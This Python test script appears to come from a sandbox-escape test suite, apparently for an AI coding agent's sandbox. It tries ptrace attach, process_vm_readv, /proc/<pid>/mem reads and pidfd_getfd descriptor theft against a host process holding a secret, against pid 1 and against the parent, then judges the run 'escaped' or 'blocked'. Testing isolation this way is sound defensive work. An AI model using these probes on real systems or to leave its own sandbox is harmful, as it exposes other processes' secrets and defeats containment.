#!/usr/bin/env python3
import os, sys
sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), "..", "lib"))
from atk import *
t = Test("k03-ptrace", "ptrace, process_vm_*, pidfd_getfd, /proc/<pid>/mem against a host process and against pid 1 and the parent inside", "proc", 3, "codex-security#160; CVE-2019-5736 class")
sec = t.out("secret.txt")
s = t.background([sys.executable, "-c", "import sys,time; f=open(%r); x=f.read(); f.seek(0); time.sleep(25)" % sec, "host-sleeper-" + t.tok])
time.sleep(0.3)
r = t.probe("""
host=int(ARGS[0]); hit=[]; d,_=rd('/proc/%d/cmdline'%host); bare=bool(d and b'host-sleeper-' in d)
# Without a jail pid 1 is the machine's own: leave it alone then.
victims=[host] if bare else [host,1,os.getppid()]
for pid in dict.fromkeys(victims):
    for n,req in (('seize',0x4206),('attach',16)):
        r,e=sysc(NR['ptrace'],req,pid,0,0)
        if r==0: hit.append('ptrace %s of %d'%(n,pid)); os.waitpid(pid,0x40000000) if req==16 else None; sysc(NR['ptrace'],17,pid,0,0)
        else: info('ptrace %d: %s'%(pid,ename(e)))
    try: m=[l.split()[0] for l in open('/proc/%d/maps'%pid) if ' rw-p ' in l or ' r-xp ' in l]
    except OSError as x: m=[]; info('maps: '+exc(x))
    for a in m[:3]:
        lo=int(a.split('-')[0],16); b=ctypes.create_string_buffer(8)
        l=ctypes.create_string_buffer(struct.pack('<QQ',ctypes.addressof(b),8)); q=ctypes.create_string_buffer(struct.pack('<QQ',lo,8))
        if sysc(NR['process_vm_readv'],pid,l,1,q,1,0)[0]>0: hit.append('process_vm_readv of %d'%pid)
        try:
            fd=os.open('/proc/%d/mem'%pid,os.O_RDWR); os.pread(fd,8,lo); hit.append('/proc/%d/mem read'%pid); os.close(fd)
        except OSError as x: info('mem: '+exc(x))
    fd,e=sysc(NR['pidfd_open'],pid,0)
    for k in range(64) if fd>=0 else ():
        got,e=sysc(NR['pidfd_getfd'],fd,k,0)
        if got>=0:
            hit.append('pidfd_getfd %d of %d'%(k,pid))
            try: os.write(1,os.pread(got,99,0))
            except OSError: pass
escaped('; '.join(dict.fromkeys(hit))) if hit else blocked('no other process can be touched')
""", [s.pid])
t.judge(r)
